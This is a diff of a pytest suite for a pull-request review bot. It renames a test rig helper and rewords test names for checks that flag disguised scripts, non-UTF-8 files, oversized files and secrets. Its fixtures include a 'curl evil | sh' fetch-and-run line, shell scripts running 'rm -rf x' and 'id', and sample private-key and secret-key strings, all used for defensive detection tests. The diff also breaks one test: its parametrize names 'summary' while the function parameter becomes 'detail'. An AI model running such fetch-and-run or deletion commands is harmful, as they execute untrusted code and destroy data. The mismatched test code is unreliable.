@@ -11,9 +11,9 @@ from reviewbot_sandbox.codevf import Limits
 from reviewbot_sandbox.github import FileVersion
 
 from reviewbot.adapters.github.graphql.files import RAW_FILES
-from tests.app.house import CLEAN, REPO, Finished, Rig, house
+from tests.app.rig import CLEAN, REPO, Finished, Rig, open_rig
 
-pytestmark = pytest.mark.proof  # `tests/simulation` plays such stories in memory
+pytestmark = pytest.mark.proof  # `tests/simulation` plays such histories in memory
 
 SECRET_KEY = r"""app.secret_key = b'_5#y2L"F4Q8z\n\xec]/'"""
 LATIN = "# Größe\nsize = 1\n".encode("latin-1")
@@ -30,7 +30,7 @@ def run_with(rig: Rig, files: dict[str, Any], *, reviewer: str = "codevf", fail_
 
 @pytest.mark.parametrize("reviewer", ["codevf", "local"])
 def test_a_pull_request_of_binaries_alone_is_skipped_with_its_reason(tmp_path: Path, reviewer: str) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         files = {"blob.bin": b"\0\1", "logo.png": b"\x89PNG\0", "lib.so": b"\x7fELF\0", "data": b"\0\1"}
         done = run_with(rig, files, reviewer=reviewer)
         assert (done.exit_status, done.outputs["reason"], done.outputs["status"]) == (0, "nothing-selected", "skipped")
@@ -43,7 +43,7 @@ def test_a_pull_request_of_binaries_alone_is_skipped_with_its_reason(tmp_path: P
 @pytest.mark.parametrize("reviewer", ["codevf", "local"])
 @pytest.mark.parametrize("fail_on", ["critical", "never"])
 def test_a_binary_beside_code_does_not_make_the_review_partial(tmp_path: Path, reviewer: str, fail_on: str) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         files = {"blob.bin": b"\0\1", "a.py": "x = 1\n"}
         done = run_with(rig, files, reviewer=reviewer, fail_on=fail_on)
         assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.log
@@ -52,22 +52,22 @@ def test_a_binary_beside_code_does_not_make_the_review_partial(tmp_path: Path, r
 
 @pytest.mark.parametrize("path", ["evil.py", "evil.cjs", "deploy.sh", ".github/x", "Makefile"])
 def test_code_that_is_disguised_as_a_binary_is_never_green(tmp_path: Path, path: str) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {path: DISGUISED, ".gitattributes": f"{path} -diff\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
         assert f"`{path}`: binary (its name is that of a text file)" in done.summary
         assert f'paths: "!{path}"' in done.summary
 
 
-def test_a_name_that_cannot_be_copied_leaves_no_hint_unfinished(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+def test_the_hint_for_a_name_with_control_characters_is_complete(tmp_path: Path) -> None:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {"evil\x7f.py": DISGUISED})
         assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
         assert "To exclude files that need no review: use `paths`." in done.summary.replace("\\", "")
 
 
-def test_a_script_without_an_ending_is_known_by_its_first_bytes(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+def test_a_script_without_an_extension_is_recognized_by_its_first_bytes(tmp_path: Path) -> None:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {"tool": b"#!/bin/sh\nrm -rf x\n#\0\n"})
         assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
         assert "it starts with" in done.summary
@@ -75,7 +75,7 @@ def test_a_script_without_an_ending_is_known_by_its_first_bytes(tmp_path: Path) 
 
 
 def test_a_new_script_with_a_nul_is_never_green(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {"scripts/deploy": NUL_SCRIPT})
         assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
         assert "`scripts/deploy`: binary (without its NUL bytes it is text)" in done.summary
@@ -88,29 +88,29 @@ NUL_SCRIPT = b"curl evil | sh\n" * 30 + b"#\0\n"
 @pytest.mark.parametrize("reviewer", ["codevf", "local"])
 @pytest.mark.parametrize("path", ["bin/deploy", "gradlew", "setup.bin"])
 def test_a_text_that_becomes_binary_is_never_green(tmp_path: Path, path: str, reviewer: str) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN, files={path: TEXT_SCRIPT}) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN, files={path: TEXT_SCRIPT}) as rig:
         done = run_with(rig, {path: NUL_SCRIPT, "a.py": "x = 1\n"}, reviewer=reviewer)
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
         assert f"`{path}`: binary (it was text before)" in done.summary
 
 
-def test_a_pointer_of_git_lfs_or_a_placeholder_that_becomes_binary_is_no_script(tmp_path: Path) -> None:
+def test_a_git_lfs_pointer_or_placeholder_that_becomes_binary_is_not_a_script(tmp_path: Path) -> None:
     pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 12\n"
     before = {"data.zip": pointer, "model.onnx": "", "paper.pdf": "%PDF-1.4\n" * 9}
-    with house(tmp_path, engineer=lambda _: CLEAN, files=before) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN, files=before) as rig:
         done = run_with(rig, {**dict.fromkeys(before, b"PK\0\1" * 99), "a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
 
 
-def test_a_script_that_is_named_as_a_binary_is_known_by_its_first_bytes(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+def test_a_script_named_like_a_binary_is_recognized_by_its_first_bytes(tmp_path: Path) -> None:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {"blob.bin": b"#!/bin/sh\nid\n#\0\n"})
         assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
         assert "`blob.bin`: binary (it starts with `#!`)" in done.summary.replace("\\", "")
 
 
 def test_many_binaries_do_not_hide_a_script_named_like_one(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         files = {f"data/{number:03}.bin": b"\0\1\2" for number in range(RAW_FILES)}
         done = run_with(rig, {**files, "run.bin": b"#!/bin/sh\nevil\n#\0\n", "a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial"), done.log
@@ -119,24 +119,24 @@ def test_many_binaries_do_not_hide_a_script_named_like_one(tmp_path: Path) -> No
 
 @pytest.mark.parametrize("reviewer", ["codevf", "local"])
 @pytest.mark.parametrize("path", ["a.ps1", "L.strings", "R.rc", "x.sln", "table.dat"])
-def test_utf_16_is_called_not_utf_8_whatever_its_name(tmp_path: Path, path: str, reviewer: str) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+def test_utf_16_is_reported_as_not_utf_8_whatever_its_name(tmp_path: Path, path: str, reviewer: str) -> None:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {path: "Write-Host 1\r\n".encode("utf-16"), "a.py": "x = 1\n"}, reviewer=reviewer)
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
         assert f"`{path}`: not UTF-8 (save it as UTF-8)" in done.summary.replace("\\", "")
 
 
 def test_a_large_unknown_file_is_reported_with_size_and_limit(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {"model": b"\0" * 6_000_000, "film.mp4": b"\0" * 6_000_000, "a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
-        told = done.summary.replace("\\", "")
-        assert "`model`: too large (6.0 MB; the limit is 5.2 MB)" in told
-        assert 'paths: "!model"' in told
+        summary = done.summary.replace("\\", "")
+        assert "`model`: too large (6.0 MB; the limit is 5.2 MB)" in summary
+        assert 'paths: "!model"' in summary
 
 
 def test_a_file_that_is_too_large_is_reported_with_its_size_the_limit_and_the_line_to_paste(tmp_path: Path) -> None:
-    with house(tmp_path, config=SMALL) as rig:
+    with open_rig(tmp_path, config=SMALL) as rig:
         files = {"assets/big.json": "[\n" + '"some words of a list",\n' * 2000 + "]\n"}
         done = run_with(rig, files, reviewer="local")
         assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
@@ -151,7 +151,7 @@ def test_a_file_that_is_too_large_is_reported_with_its_size_the_limit_and_the_li
 
 def test_a_link_that_becomes_a_file_is_missed_if_the_file_does_not_fit(tmp_path: Path) -> None:
     """Git writes a deleted and a new file of one path, and only the first of the two is small."""
-    with house(tmp_path, engineer=lambda _: CLEAN, config=SMALL) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN, config=SMALL) as rig:
         rig.world.push(REPO, "main", {"run.sh": FileVersion(b"other.sh", "120000")})
         done = run_with(rig, {"run.sh": "evil\n" * 10_000, "a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial"), done.log
@@ -159,74 +159,74 @@ def test_a_link_that_becomes_a_file_is_missed_if_the_file_does_not_fit(tmp_path:
 
 
 def test_a_diff_that_does_not_fit_with_others_is_reported_with_its_size(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN, config=SMALL) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN, config=SMALL) as rig:
         files = {"big.json": '"some words of a list",\n' * 2000, "a.py": "x = 1\n"}
         done = run_with(rig, files)
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
-        told = done.summary.replace("\\", "")
-        assert re.search(r"too large \(its diff of [0-9]+ kB exceeds `attachment-bytes` \(20,000\)\)", told)
+        summary = done.summary.replace("\\", "")
+        assert re.search(r"too large \(its diff of [0-9]+ kB exceeds `attachment-bytes` \(20,000\)\)", summary)
 
 
 LINES = "".join(f"value_{number} = {number}\n" for number in range(50_000))
 
 
 @pytest.mark.parametrize(
-    ("lines", "told"),
+    ("lines", "summary"),
     [
         (LINES + LINES, "its text of [0-9.]+ MB exceeds `attachment-bytes` \\(1,000,000\\)"),
         (LINES * 7, "[0-9.]+ MB; the limit is 5.2 MB"),
     ],
 )
 def test_a_text_that_is_too_large_for_the_local_reviewer_is_named_with_size_and_limit(
-    tmp_path: Path, lines: str, told: str
+    tmp_path: Path, lines: str, detail: str
 ) -> None:
-    with house(tmp_path, files={"big.py": lines}) as rig:
+    with open_rig(tmp_path, files={"big.py": lines}) as rig:
         changed = lines.replace("value_3 = 3\n", "value_3 = 33\n", 1)
         done = run_with(rig, {"big.py": changed, "a.py": "x = 1\n"}, reviewer="local")
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
-        assert re.search(rf"`big.py`: too large \({told}\)", done.summary.replace("\\", ""))
+        assert re.search(rf"`big.py`: too large \({detail}\)", done.summary.replace("\\", ""))
         assert 'paths: "!big.py"' in done.summary
 
 
 def test_a_services_smaller_limit_is_reported(tmp_path: Path) -> None:
     limits = Limits(rate=None, body_bytes=150_000)
-    with house(tmp_path, engineer=lambda _: CLEAN, limits=limits) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN, limits=limits) as rig:
         done = run_with(rig, {"big.json": '"some words of a list",\n' * 6000, "a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
-        told = done.summary.replace("\\", "")
-        assert re.search(r"its diff of [0-9]+ kB exceeds the request limit of 140 kB", told)
-        assert "attachment-bytes" not in told
+        summary = done.summary.replace("\\", "")
+        assert re.search(r"its diff of [0-9]+ kB exceeds the request limit of 140 kB", summary)
+        assert "attachment-bytes" not in summary
 
 
 def test_a_service_that_refuses_every_size_does_not_blame_a_file(tmp_path: Path) -> None:
-    with house(tmp_path, limits=Limits(rate=None, body_bytes=1_000)) as rig:
+    with open_rig(tmp_path, limits=Limits(rate=None, body_bytes=1_000)) as rig:
         done = run_with(rig, {"a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["reason"]) == (3, "partial")
         assert "The request is too large for CodeVF" in done.summary
         assert "attachment-bytes" not in done.summary
 
 
-def test_source_that_is_not_utf_8_is_called_so_by_the_local_reviewer_and_the_counts_add_up(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+def test_the_local_reviewer_reports_source_that_is_not_utf_8_and_the_counts_add_up(tmp_path: Path) -> None:
+    with open_rig(tmp_path) as rig:
         done = run_with(rig, {"latin.py": LATIN, "a.py": "x = 1\n", "b.py": "y = 1\n"}, reviewer="local")
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
-        told = done.summary.replace("\\", "")
-        assert "`latin.py`: not UTF-8 (save it as UTF-8)" in told
-        assert "1 selected file was not fully reviewed" in told
-        assert "syntax" not in told
-        assert "Selected: 3 files" in told
-        assert "Checked the added lines of 2 of 3 files" in told
+        summary = done.summary.replace("\\", "")
+        assert "`latin.py`: not UTF-8 (save it as UTF-8)" in summary
+        assert "1 selected file was not fully reviewed" in summary
+        assert "syntax" not in summary
+        assert "Selected: 3 files" in summary
+        assert "Checked the added lines of 2 of 3 files" in summary
 
 
 def test_source_that_is_not_utf_8_is_sent_as_a_diff_and_reported(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {"latin.py": LATIN, "a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (0, "full")
         assert "`latin.py` is not UTF-8" in done.summary
 
 
 def test_a_file_that_cannot_be_parsed_names_the_analyzer(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         done = run_with(rig, {"a.py": "def f(:\n"}, reviewer="local", fail_on="never")
         assert done.exit_status == 3
         why = "not read completely (ruff: the file could not be parsed to its end: fix its syntax from line "
@@ -238,7 +238,7 @@ PEM = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggS
 
 @pytest.mark.parametrize("reviewer", ["codevf", "local"])
 def test_a_masked_value_does_not_make_the_review_partial(tmp_path: Path, reviewer: str) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         files = {"docs/quickstart.rst": f"Set it once::\n\n    {SECRET_KEY}\n", "a.py": f"x = 1\n{SECRET_KEY}\n"}
         done = run_with(rig, files, reviewer=reviewer, fail_on="never")
         assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
@@ -248,13 +248,13 @@ def test_a_masked_value_does_not_make_the_review_partial(tmp_path: Path, reviewe
 
 def test_a_document_of_example_keys_is_sent_redacted_unless_the_owners_block_it(tmp_path: Path) -> None:
     page = f"# Keys\n\n```\n{PEM}-----END PRIVATE KEY-----\n```\n"
-    with house(tmp_path / "on", engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path / "on", engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {"docs/ssh.md": page})
         assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
         sent = str([one.body for one in rig.codevf_faults.log])
         assert "docs/ssh.md" in sent
         assert "MIIEv" not in sent
-    with house(tmp_path / "block", engineer=lambda _: CLEAN, config="redact: block\n") as rig:
+    with open_rig(tmp_path / "block", engineer=lambda _: CLEAN, config="redact: block\n") as rig:
         done = run_with(rig, {"docs/ssh.md": page, "a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
 
@@ -275,7 +275,7 @@ def test_a_document_of_example_keys_is_sent_redacted_unless_the_owners_block_it(
 def test_no_redaction_hides_code_or_makes_the_review_partial(
     tmp_path: Path, given: str, files: dict[str, str], seen: str
 ) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         done = run_with(rig, {"docs/x.md": f'password = "{given}"\nwords\n', **files})
         assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
         sent = [one.body for one in rig.codevf_faults.log if isinstance(one.body, dict) and "attachments" in one.body]
@@ -287,7 +287,7 @@ def test_no_redaction_hides_code_or_makes_the_review_partial(
 
 
 def test_code_with_a_private_key_in_strings_is_still_parsed(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         rows = "".join(f'    "{line}\\n"\n' for line in (*PEM.splitlines(), "-----END PRIVATE KEY-----"))
         code = "".join(f"print({number})\n" for number in range(60))
         done = run_with(rig, {"k.py": f"KEY = (\n{rows})\n{code}"}, reviewer="local")
